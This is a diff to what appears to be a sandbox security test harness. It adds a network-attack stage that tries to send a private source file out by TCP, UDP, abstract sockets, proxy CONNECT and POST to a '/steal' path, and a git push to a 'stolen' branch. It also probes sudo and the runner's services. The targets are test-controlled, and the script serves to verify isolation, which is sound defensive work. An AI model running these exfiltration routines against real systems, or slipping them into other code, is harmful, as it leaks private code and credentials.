@@ -10,14 +10,14 @@
 //                                    a program the hostile code planted (a git filter, a hook,
 //                                    npm's script-shell...): it must never run
 //
-// Env (the test gives it to every step): ATTACK_WAY (agent, setup or gate), ATTACK_URL (the
-// test's collector: every report is POSTed there, a network path no sandbox here closes),
-// ATTACK_SHARE (a folder every user may write: markers/, bin/, kill/, hb/ and a copy of
-// this file), ATTACK_LEGS (how many task jobs run at once). Each report carries `leg`, a hash
+// Env (the test gives it to every step): ATTACK_WAY (agent, setup or gate), ATTACK_SHARE (a
+// folder every user may write, outside the temporary folders the sandbox makes private:
+// reports/, where every report goes as a file, markers/, bin/, kill/, hb/ and a copy of this
+// file), ATTACK_NET (the network attack's targets, f.), ATTACK_LEGS (how many task jobs run at once). Each report carries `leg`, a hash
 // of the work tree's path, which the test maps back to the job.
 //
-// Nothing here prints a token it found: it sends what it read to the collector, which is what
-// the test searches for the canaries.
+// Nothing here prints a token it found: it reports what it read, which is what the test
+// searches for the canaries.
 import { execFileSync, spawn, spawnSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
 import {
@@ -41,21 +41,22 @@ import { dirname, join, resolve } from 'node:path';
 
 const [mode = 'agent', arg1 = '', arg2 = ''] = process.argv.slice(2);
 const share = process.env.ATTACK_SHARE ?? '/tmp/ralph-attack-share';
-const url = process.env.ATTACK_URL ?? '';
 const way = process.env.ATTACK_WAY ?? '';
 const task = process.env.RALPH_TASK_ID ?? '';
 
 async function send(kind, body) {
   const payload = JSON.stringify({ kind, mode, way, task, uid: process.getuid(), ...body });
-  // The collector runs in the test's own process, which may be busy on a loaded machine: a
-  // report waits for it, and is sent again once, rather than lost.
-  for (let round = 0; round < 2; round++) {
-    try {
-      await fetch(`${url}/report`, { method: 'POST', body: payload, signal: AbortSignal.timeout(30_000) });
-      return;
-    } catch {
-      // the collector is the only channel; a beacon also leaves a marker file
-    }
+  // A file in the share, which every step sees (the network is closed in the sandbox): the
+  // test reads them all after the run.
+  try {
+    const dir = join(share, 'reports');
+    mkdirSync(dir, { recursive: true });
+    writeFileSync(
+      join(dir, `${Date.now()}-${process.pid}-${Math.random().toString(36).slice(2)}.json`),
+      payload,
+    );
+  } catch {
+    // the share is the only channel; a beacon also leaves a marker file
   }
 }
 
@@ -233,6 +234,112 @@ async function heavyAttacks() {
   await processes();
   if (does('p')) await patchFiles();
   await attempt('sudo', () => execFileSync('sudo', ['-n', 'true'], { stdio: 'pipe' }).toString());
+  if (!only) await network();
+}
+
+// f. The network: the private repository's code out by every way there is, the runner's own
+// services, DNS; and the one allowed thing, the registry, through the proxy.
+async function network() {
+  const net = await import('node:net');
+  const dgram = await import('node:dgram');
+  const dns = await import('node:dns');
+  const http = await import('node:http');
+  const t = JSON.parse(process.env.ATTACK_NET ?? '{}');
+  const code = readFileSync('private.js', 'utf8');
+  const within = (ms, p) => Promise.race([p, sleep(ms).then(() => 'timeout')]);
+  /**
+   * Connects, sends `data`, and returns what came back (or the error). `keepOpen`: the sending
+   * side stays open until the first answer (a proxy's answer to a CONNECT comes after a tick: a
+   * half-close before it makes the server end the socket first).
+   */
+  const talk = (opts, data, keepOpen = false) =>
+    within(
+      20_000,
+      new Promise((done) => {
+        const s = net.connect(opts);
+        let got = '';
+        s.on('connect', () => (keepOpen ? s.write(data) : s.end(data)));
+        s.on('data', (d) => {
+          got += d;
+          if (keepOpen) s.end();
+        });
+        s.on('close', () => done(`connected, got ${JSON.stringify(got)}`));
+        s.on('error', (e) => done(e.code));
+      }),
+    );
+  const proxy = process.env.HTTP_PROXY ? new URL(process.env.HTTP_PROXY) : undefined;
+  /** A plain HTTP request through the proxy (or straight to host:port without one). */
+  const viaProxy = (method, url, body) =>
+    within(
+      20_000,
+      new Promise((done) => {
+        const u = new URL(url);
+        const req = http.request(
+          proxy
+            ? { host: proxy.hostname, port: proxy.port, method, path: url, headers: { host: u.host } }
+            : { host: u.hostname, port: u.port, method, path: u.pathname },
+          (res) => {
+            let b = '';
+            res.on('data', (d) => {
+              b += d;
+            });
+            res.on('end', () => done(`${res.statusCode} ${b.slice(0, 200)}`));
+          },
+        );
+        req.on('error', (e) => done(e.code));
+        req.end(body);
+      }),
+    );
+  const connectVia = (target) =>
+    proxy
+      ? talk(
+          { host: proxy.hostname, port: Number(proxy.port) },
+          `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n${code}`,
+          true,
+        )
+      : 'no proxy';
+  await attempt('f.exfil-tcp', () => talk({ host: '127.0.0.1', port: t.exfilPort }, code));
+  await attempt('f.exfil-abstract', () => talk({ path: `\0${t.exfilAbstract}` }, code));
+  await attempt('f.exfil-udp', () =>
+    within(
+      3000,
+      new Promise((done) => {
+        const u = dgram.createSocket('udp4');
+        u.send(code.slice(0, 1000), t.exfilPort, '127.0.0.1', (e) => {
+          u.close();
+          done(e ? e.code : 'sent');
+        });
+      }),
+    ),
+  );
+  await attempt('f.runner-tcp', () => talk({ host: '127.0.0.1', port: t.runnerPort }, 'hello'));
+  await attempt('f.runner-abstract', () => talk({ path: `\0${t.runnerAbstract}` }, 'hello'));
+  await attempt('f.dns', () =>
+    within(5000, new Promise((done) => dns.lookup('registry.npmjs.org', (e, a) => done(e ? e.code : a)))),
+  );
+  await attempt('f.proxy-connect-exfil', () => connectVia(`${t.exfilName}:${t.exfilPort}`));
+  await attempt('f.proxy-connect-address', () => connectVia(`127.0.0.1:${t.exfilPort}`));
+  await attempt('f.proxy-post-exfil', () =>
+    viaProxy('POST', `http://${t.exfilName}:${t.exfilPort}/steal`, code),
+  );
+  await attempt('f.git-push-exfil', () => {
+    const r = spawnSync(
+      'git',
+      ['push', `http://${t.exfilName}:${t.exfilPort}/repo.git`, 'HEAD:refs/heads/stolen'],
+      {
+        encoding: 'utf8',
+        timeout: 20_000,
+        env: { ...process.env, GIT_TERMINAL_PROMPT: '0' },
+      },
+    );
+    return `exit ${r.status}: ${(r.stderr ?? '').slice(-300)}`;
+  });
+  // The registry, allowed by name: through the proxy it answers; straight to its address it cannot.
+  const pkg = `${t.registry}/pkg/${process.env.ATTACK_RUN}/${mode}/${leg}`;
+  await attempt('f.registry', () => viaProxy('GET', pkg));
+  await attempt('f.registry-direct', () =>
+    talk({ host: '127.0.0.1', port: new URL(t.registry).port }, `GET /direct HTTP/1.0\r\n\r\n`),
+  );
 }
 
 async function swapGit() {
